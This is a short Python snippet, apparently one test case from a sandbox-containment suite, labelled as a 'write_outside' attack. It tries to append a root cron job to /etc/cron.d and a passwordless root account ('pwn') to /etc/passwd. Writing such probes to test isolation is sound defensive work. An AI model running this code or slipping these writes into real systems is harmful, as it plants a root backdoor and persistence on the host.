# attack: write_etc
# category: write_outside
# kind: write_outside
# describe: plant a cron job and a passwd entry
for p, text in (("/etc/cron.d/ouro", "* * * * * root id\n"), ("/etc/passwd", "pwn::0:0::/:/bin/sh\n")):
    try:
        with open(p, "a") as f:
            f.write(text)
    except OSError as e:
        print(p, e)
